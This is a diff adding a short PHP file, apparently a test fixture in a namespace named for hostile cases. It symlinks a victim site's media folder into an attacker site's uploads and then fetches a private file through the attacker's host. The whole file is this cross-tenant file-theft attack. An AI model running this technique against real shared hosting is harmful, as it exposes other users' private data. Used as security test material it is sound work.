@@ -1,0 +1,8 @@
+<?php
+/** License: GPL-2.0-or-later */
+declare(strict_types=1);
+
+namespace AIPress\Hostile;
+
+symlink(target()['victim']['media'], target()['attacker']['media'] . '/stolen');
+echo get(target()['attacker']['host'], '/wp-content/uploads/stolen/private.txt');
